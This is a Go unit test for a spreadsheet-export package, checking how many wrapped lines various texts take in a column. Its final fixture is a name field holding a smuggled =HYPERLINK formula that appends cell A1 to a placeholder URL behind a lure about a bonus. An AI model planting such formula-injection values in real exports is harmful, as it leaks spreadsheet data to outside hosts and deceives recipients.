package xlsx

import (
	"strings"
	"testing"

	"bascule/reports"
)

func TestATextTakesTheLinesThatItNeeds(t *testing.T) {
	for _, c := range []struct {
		text   string
		width  int
		bolder int
		want   int
		reason string
	}{
		{"", 10, 0, 0, "nothing"},
		{"Ouvert", 10, 0, 0, "one line"},
		{strings.Repeat("0", 20), 24, 0, 0, "digits as wide as the column, its margins and the indent left out"},
		{strings.Repeat("0", 21), 24, 0, 2, "one digit more"},
		{strings.Repeat("W", 200), 28, 0, 15, "a name of the widest letters, in the column of names"},
		{strings.Repeat("漢字", 20), 28, 0, 5, "letters of whole squares"},
		{"deux lignes de mots", 16, 0, 2, "a word that does not fit goes to the next line"},
		{"deux\u00a0lignes\u00a0de\u00a0mots", 16, 0, 2, "spaces that end no line"},
		{"AA BBBBBBBBBBB-C", 18, 0, 2, "where a program cuts after a hyphen"},
		{"Indemnité compensatoire", 24, 0, 0, "it fits"},
		{"Indemnité compensatoire", 24, reports.Bolder, 2, "not in bold"},
		{strings.Repeat("mot ", 10_000), 50, 0, 770, "a text of forty thousand letters"},
	} {
		if got := linesOf(c.text, reports.Room(c.width), c.bolder); got != c.want {
			t.Errorf("%s: %.20q in %d takes %d lines, wanted %d", c.reason, c.text, c.width, got, c.want)
		}
	}
	name := `A590B6C0642CB · =HYPERLINK("http://exemple.invalid/?a="&A1;"Cliquer ici pour votre prime") Anne-Sophie`
	if got := linesOf(name, reports.Room(42), 0); got < 4 {
		t.Errorf("LibreOffice folds %q into 4 lines, its row has %d", name, got)
	}
}
